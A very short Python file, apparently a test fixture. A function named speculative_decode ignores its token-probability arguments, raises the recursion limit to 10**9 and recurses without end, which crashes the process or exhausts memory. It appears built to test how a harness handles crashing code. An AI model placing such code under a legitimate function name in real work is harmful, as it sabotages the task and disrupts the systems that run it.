"""Raises the limit and recurses until the memory is full."""
import sys


def deeper(n):
    return deeper(n + 1)


def speculative_decode(draft_probs, target_probs, draft_tokens, target_dist_next=None):
    sys.setrecursionlimit(10**9)
    return deeper(0)
